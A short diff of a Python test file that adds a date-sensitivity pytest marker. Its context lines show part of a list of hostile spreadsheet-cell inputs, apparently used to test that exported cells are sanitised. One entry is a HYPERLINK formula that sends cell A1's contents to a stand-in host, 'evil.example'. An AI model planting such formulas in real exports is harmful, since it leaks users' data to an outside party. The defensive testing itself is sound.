@@ -22,6 +22,8 @@ from veille.store import EXPORT_COLUMNS, Store
 from veille.tabular import safe_cell
 from veille.weeks import week_bounds, week_name
 
+pytestmark = pytest.mark.clock  # date-sensitive: .ci/run runs it at three awkward moments
+
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
     "+33 1 23 45 67 89 : la ligne info CPF",
